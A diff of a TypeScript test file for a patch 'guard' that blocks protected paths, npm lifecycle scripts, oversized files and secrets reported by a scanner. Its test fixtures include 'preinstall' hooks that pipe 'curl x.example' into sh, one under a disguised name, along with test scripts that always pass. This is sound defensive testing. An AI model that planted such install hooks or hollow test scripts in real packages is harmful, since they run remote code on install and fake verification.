@@ -5,8 +5,8 @@ import { NO_RULES, type Rules } from "../../../src/domain/rules.ts";
 import { guard, MAX_ADDED_LINES, MAX_FILE_BYTES, MAX_FILES } from "../../../worker/run/guard.ts";
 import { aChange, aPatch } from "../../support/builders.ts";
 
-const judged = (change: Partial<Change>, rules: Partial<Rules> = {}, agreed = "") =>
-  guard({ patch: aPatch(aChange(change)), rules: { ...NO_RULES, ...rules }, agreed, secrets: [] });
+const judged = (change: Partial<Change>, rules: Partial<Rules> = {}) =>
+  guard({ patch: aPatch(aChange(change)), rules: { ...NO_RULES, ...rules }, secrets: [] });
 
 describe("the guard", () => {
   it("lets an ordinary change through", () => {
@@ -21,8 +21,8 @@ describe("the guard", () => {
     "docs/CODEOWNERS",
     ".gitmodules",
     "sub/.gitattributes",
-  ])("never lets %s change, whatever rules and spec say", (path) => {
-    expect(judged({ path }, { allow: ["*"] }, path)).not.toEqual([]);
+  ])("never lets %s change, whatever the rules say", (path) => {
+    expect(judged({ path }, { allow: ["*", path] })).not.toEqual([]);
   });
 
   it.each([
@@ -31,24 +31,44 @@ describe("the guard", () => {
     "packages/a/yarn.lock",
     "jest.config.mjs",
     ".github/dependabot.yml",
-  ])("protects %s until the rules or the agreed spec name it", (path) => {
-    expect(judged({ path })).toHaveLength(1);
+  ])("protects %s until the rules name it", (path) => {
+    expect(judged({ path })).toEqual([
+      {
+        path,
+        what: "the path is protected",
+        remedy: `Name \`${path}\` under \`allow:\` in .github/issuewright.yml`,
+      },
+    ]);
     expect(judged({ path }, { allow: [path] })).toEqual([]);
-    expect(judged({ path }, {}, `update ${path} as well`)).toEqual([]);
   });
 
   it.each([
-    ["runs a script on every install", '  "preinstall": "curl x.example | sh",', "preinstall"],
-    ["runs one under a name in disguise", '  "pre\\u0069nstall": "curl x.example | sh",', "preinstall"],
-    ["makes a test of nothing", '  "test": "true"', "test"],
-  ])("protects a package that %s until somebody names it", (_name, added, script) => {
-    const change = { path: "package.json", added: [added] };
-    expect(judged(change).map(({ what }) => what)).toEqual([
-      `it changes what npm runs by itself (\`${script}\`)`,
+    [
+      "runs a script on every install",
+      ['  "preinstall": "curl x.example | sh",'],
+      "what npm runs by itself (`preinstall`)",
+    ],
+    [
+      "runs one under a name in disguise",
+      ['  "pre\\u0069nstall": "curl x.example | sh",'],
+      "what npm runs by itself (`preinstall`)",
+    ],
+    ["makes a test of nothing", ['  "test": "node --test || true"'], "what `npm test` runs (`test`)"],
+    [
+      "does both",
+      ['  "prepare": "x",', '  "test": "true",', '  "pretest": "x"'],
+      "what npm runs by itself (`prepare`), and what `npm test` runs (`test`, `pretest`)",
+    ],
+  ])("protects a package that %s until the rules name it", (_name, added, what) => {
+    const change = { path: "package.json", added };
+    expect(judged(change)).toEqual([
+      {
+        path: "package.json",
+        what: `it changes ${what}`,
+        remedy: "Name `package.json` under `allow:` in .github/issuewright.yml",
+      },
     ]);
     expect(judged(change, { allow: ["package.json"] })).toEqual([]);
-    expect(judged(change, {}, "set `test` in package.json")).toEqual([]);
-    expect(judged(change, {}, "see sub/package.json and package.jsonc")).toHaveLength(1);
     expect(judged({ ...change, added: ['  "lint": "biome",', '  "dependencies": {'] })).toEqual([]);
   });
 
@@ -71,21 +91,30 @@ describe("the guard", () => {
       guard({
         patch: aPatch(...Array.from({ length: n }, (_, i) => aChange({ path: `f${i}` }))),
         rules: NO_RULES,
-        agreed: "",
         secrets: [],
       });
     expect(files(MAX_FILES)).toEqual([]);
     expect(files(MAX_FILES + 1)).toHaveLength(1);
     expect(judged({ addedLines: MAX_ADDED_LINES })).toEqual([]);
     expect(judged({ addedLines: MAX_ADDED_LINES + 1 })).toHaveLength(1);
-    expect(judged({ bytes: MAX_FILE_BYTES + 1 })).toHaveLength(1);
+    expect(judged({ bytes: MAX_FILE_BYTES })).toEqual([]);
+  });
+
+  it("names every file that is too large, the largest first, and what to do about a file", () => {
+    const sized = (path: string, bytes: number) => aChange({ path, bytes });
+    const patch = aPatch(sized("a.bin", 2_200_000), sized("ok.bin", 2_000_000), sized("b.bin", 3_145_728));
+    const remedy =
+      "Name large files that tools make in `.gitignore` on the default branch, and add those that the change needs by hand";
+    expect(guard({ patch, rules: NO_RULES, secrets: [] })).toEqual([
+      { path: "b.bin", what: "it has 3,145,728 bytes, more than 2,097,152 bytes", remedy },
+      { path: "a.bin", what: "it has 2,200,000 bytes, more than 2,097,152 bytes", remedy },
+    ]);
   });
 
   it("refuses what a secret scanner found, without repeating it", () => {
     const faults = guard({
       patch: aPatch(aChange()),
       rules: NO_RULES,
-      agreed: "",
       secrets: [{ path: "src/clock.js", what: "AWSSecretAccessKey" }],
     });
     expect(faults).toEqual([
